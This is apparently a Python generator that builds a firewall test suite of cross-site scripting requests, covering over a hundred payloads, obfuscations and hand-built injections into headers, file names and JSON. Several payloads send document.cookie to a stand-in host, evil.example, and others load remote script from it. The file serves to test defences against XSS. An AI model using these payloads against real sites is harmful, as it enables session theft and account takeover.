"""Cross-site scripting: ``attacks/1040-xss.yaml``.

Script tags, event handlers, script URIs (``javascript:``, ``vbscript:``,
``data:``), SVG/MathML vectors, ``<iframe srcdoc>``, CSS vectors, injections
into JavaScript string contexts, template-literal and constructor tricks, and
the usual obfuscations (HTML entities with and without semicolons, ``\\u`` JS
escapes, CSS escapes, double URL encoding, ``%u``, mixed case, NUL bytes, tabs
and newlines inside ``java\\tscript:``).

Every payload goes in plain in one placement (every fourth payload in two),
and two payloads in three once more under one of the encodings in another
placement (placements and encodings rotate over the
list, so each combination is exercised). A few hand-built cases cover what the
library's placements cannot express: the payload in a parameter name, in a
multipart file name, in other headers, and hand-written mixed case.
"""

from __future__ import annotations

import base64
from typing import Any

from common import BROWSER_HEADERS, ENCODINGS, case, cases, header_safe, request, write

FAMILY = "xss"

PAYLOADS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(document.domain)</script>',
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<svg><script>alert&#40;1&#41;</script>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=prompt(1)>',
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click me",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    '<div onpointerover="alert(1)">MOVE HERE</div>',
    "<style onload=alert(1)></style>",
    "<frameset onload=alert(1)>",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
    "<img src=x onerror=window.onerror=alert;throw 1>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=setInterval('alert\\x281\\x29')>",
    '<a href=# onclick="document.location=\'//evil.example/?\'+document.cookie">x</a>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg/onload=&#97&#108&#101&#114&#116(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    # attribute breakout without a new tag
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" accesskey="x" onclick="alert(1)" x="',
    "x onerror=alert(1)",
    # script URIs
    '<a href="javascript:alert(document.cookie)">click</a>',
    '<iframe src="javascript:alert(1)">',
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<table background=\"javascript:alert(1)\">",
    "<isindex action=javascript:alert(1) type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    ('<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116'
     '&#40&#49&#41">x</a>'),
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74'
    '&#x28&#x31&#x29">x</a>',
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "javascript://%0aalert(document.domain)",
    "java\tscript:alert(1)",
    "javas&#99;ript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
    '<link rel=import href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">',
    # SVG / MathML specifics
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ("<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) />"
     "<a id=xss><text x=20 y=20>XSS</text></a>"),
    "<svg><set attributeName=onmouseover to=alert(1)>",
    ("<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
     "<image href='1' onerror='alert(1)' /></svg>#x\" />"),
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS vectors
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="width:expression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))">',
    '<div style="background-image:\\75\\72\\6c(javascript:alert(1))">',
    "<div style=\"-moz-binding:url('//evil.example/xss.xml#x')\">",
    # JavaScript string contexts
    "';alert(String.fromCharCode(88,83,83))//",
    '"-alert(1)-"',
    "'-confirm(document.domain)-'",
    '\\";alert(1);//',
    "</script><script>alert(1)</script>",
    "';setTimeout('alert(1)');//",
    # template literals, constructors, indirection
    "`${alert(1)}`",
    "alert`1`",
    "[].constructor.constructor('alert(1)')()",
    "{{constructor.constructor('alert(1)')()}}",
    "top['al'+'ert'](1)",
    "window['ev'+'al']('ale'+'rt(1)')",
    "Function('alert(1)')()",
    "eval(location.hash.slice(1))",
    "eval(atob('YWxlcnQoMSk='))",
    "top[/al/.source+/ert/.source](1)",
    "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
    # JS escapes and UTF-7
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # more vectors
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
     "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
    "<svg><discard onbegin=alert(1)>",
    "<video poster=javascript:alert(1)//>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg/onload=location=`javas`+`cript:alert(1)`>",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">x</a>",
    # NUL bytes
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x on\x00error=alert(1)>",
]

# Hand-written mixed case: HTML names are case-insensitive, JavaScript names are not.
MIXED_CASE: list[str] = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<sVg OnLoAd=alert(1)>",
    "<iMg sRc=x OnErRoR=alert(1)>",
    '<A HREF="JAVASCRIPT:alert(1)">x</A>',
    "<DeTaIlS OpEn OnToGgLe=alert(1)>",
    "<IfRaMe SrCdOc='<sCrIpT>alert(1)</ScRiPt>'>",
    "VbScRiPt:MsgBox(1)",
]

ROTATE_PLACEMENTS = ["query", "form", "json", "multipart", "xml", "cookie", "header", "path"]
ROTATE_ENCODINGS = ["double-url", "html-entity", "unicode-u", "html-hex-entity"]


def _one(payload: str, where: str, enc: str) -> list[dict[str, Any]]:
    return cases([payload], family=FAMILY, placements=[where], encodings=[enc])


def _fits(payload: str, where: str, enc: str) -> bool:
    value = ENCODINGS[enc](payload)
    if where in ("header", "cookie") and not header_safe(value):
        return False
    # A path segment cannot carry a NUL through the front end, nor does a
    # real application decode entities in it.
    if where == "path" and ("\x00" in value or enc.startswith("html")):
        return False
    # XML cannot carry a NUL; entity-encoding a payload that is already made of
    # entities would need a second decoding no browser does.
    if where == "xml" and "\x00" in value:
        return False
    if enc.startswith("html") and "&" in payload:
        return False
    # Cookies are URL-decoded once by applications, never twice.
    return not (where == "cookie" and enc == "double-url")


def build() -> list[dict[str, Any]]:
    tests: list[dict[str, Any]] = []
    n = len(ROTATE_PLACEMENTS)
    for i, payload in enumerate(PAYLOADS):
        chosen: list[str] = []
        wanted = 2 if i % 4 == 0 else 1  # plain placements the payload travels in
        for k in range(n):
            where = ROTATE_PLACEMENTS[(i + k * 3) % n]
            if where not in chosen and _fits(payload, where, "plain"):
                chosen.append(where)
            if len(chosen) == wanted:
                break
        for where in chosen:
            tests += _one(payload, where, "plain")
        if i % 3 == 2:
            continue  # two payloads in three also travel encoded
        enc = ROTATE_ENCODINGS[i % len(ROTATE_ENCODINGS)]
        for k in range(n):
            where = ROTATE_PLACEMENTS[(i + 5 + k) % n]
            if _fits(payload, where, enc):
                tests += _one(payload, where, enc)
                break
    for i, payload in enumerate(MIXED_CASE):
        for where in (ROTATE_PLACEMENTS[i % n], ROTATE_PLACEMENTS[(i + 4) % n]):
            if _fits(payload, where, "plain"):
                out = _one(payload, where, "plain")
                out[0]["tags"] = [t if t != "encoding:plain" else "encoding:mixed-case"
                                  for t in out[0]["tags"]]
                tests += out
    tests += hand_built()
    return tests


def hand_built() -> list[dict[str, Any]]:
    """Places the library's placements do not reach."""
    out: list[dict[str, Any]] = []

    def add(inp: dict[str, Any], desc: str, where: str, enc: str = "plain") -> None:
        out.append(case(inp, family=FAMILY, attack=True, desc=desc,
                        tags=[f"placement:{where}", f"encoding:{enc}"]))

    # The payload as a parameter name.
    add(request("GET", "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1"),
        "<script>alert(1)</script> as a query parameter name", "query-name")
    add(request("GET", "/search?q=1&%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        "<img src=x onerror=alert(1)> as a bare query key", "query-name")
    # In a multipart file name.
    boundary = "----BastionXssBoundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"avatar\"; "
            f"filename=\"<img src=x onerror=alert(document.domain)>.png\"\r\n"
            f"Content-Type: image/png\r\n\r\nPNGDATA\r\n--{boundary}--\r\n")
    add(request("POST", "/upload", {**BROWSER_HEADERS,
                                    "Content-Type": f"multipart/form-data; boundary={boundary}"},
                body),
        "XSS in a multipart file name", "multipart-filename")
    # In the User-Agent and in a cookie name.
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "User-Agent": "Mozilla/5.0 <script>alert(1)</script>"}),
        "<script> in User-Agent (log viewers)", "header")
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "User-Agent": "\"><svg/onload=alert(document.domain)>"}),
        "svg onload in User-Agent", "header")
    add(request("GET", "/account", {**BROWSER_HEADERS,
                                    "Cookie": "session=abc; <svg/onload=alert(1)>=1"}),
        "XSS in a cookie name", "cookie-name")
    # A JSON API whose value is rendered as HTML later (stored XSS).
    add(request("POST", "/api/v1/profile",
                {**BROWSER_HEADERS, "Content-Type": "application/json"},
                '{"displayName": "Jane", "bio": "hi <img src=x onerror=alert(document.cookie)>"}'),
        "stored XSS in a JSON profile field", "json")
    add(request("POST", "/api/v1/comments",
                {**BROWSER_HEADERS, "Content-Type": "application/json"},
                '{"body": "\\u003csvg onload=alert(1)\\u003e"}'),
        "JSON \\u escapes spelling <svg onload=...>", "json", "unicode-escape")
    # Redirect parameter to a script URI.
    add(request("GET", "/login?next=javascript%3Aalert(document.domain)"),
        "open redirect parameter to javascript:", "query")
    add(request("GET", "/login?next=%09javascript%3Aalert(1)"),
        "leading tab before javascript:", "query")
    add(request("GET", "/login?return=data%3Atext%2Fhtml%3Bbase64%2C"
                       "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D"),
        "redirect to a data:text/html URI", "query")
    return out


def ftw_safe(tests: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Make each request travel as built, through go-ftw's handling of the body.

    go-ftw reads ``data`` as a Go template, so a body holding ``{{`` travels as
    ``encoded_data`` (base64) instead. For multipart bodies it turns every
    ``\\n`` into ``\\r\\n`` (``encoded_data`` included, in Bastion's replay), so
    those are written with ``\\n`` line ends and Content-Length counts the
    bytes that will be sent. Idempotent, and harmless on bodies ``common``
    already prepared. (Shared by the generators of this author's families.)
    """
    for test in tests:
        for stage in test["stages"]:
            inp = stage["input"]
            headers = inp.get("headers", {})
            ctype = next((v for k, v in headers.items() if k.lower() == "content-type"), "")
            multipart = "multipart/form-data;" in ctype.lower()
            if "data" in inp:
                body = inp["data"]
            elif "encoded_data" in inp and multipart:
                body = base64.b64decode(inp["encoded_data"]).decode("utf-8")
            else:
                continue  # no body, or bytes encoded on purpose
            wire = body
            if multipart:
                body = body.replace("\r\n", "\n")
                wire = body.replace("\n", "\r\n")
            inp.pop("data", None)
            inp.pop("encoded_data", None)
            if "{{" in body:
                inp["encoded_data"] = base64.b64encode(body.encode()).decode()
            else:
                inp["data"] = body
            for k in list(headers):
                if k.lower() == "content-length":
                    headers[k] = str(len(wire.encode()))
    return tests


def main() -> None:
    write("attacks/1040-xss.yaml", 1040000, "Cross-site scripting", ftw_safe(build()))


if __name__ == "__main__":
    main()
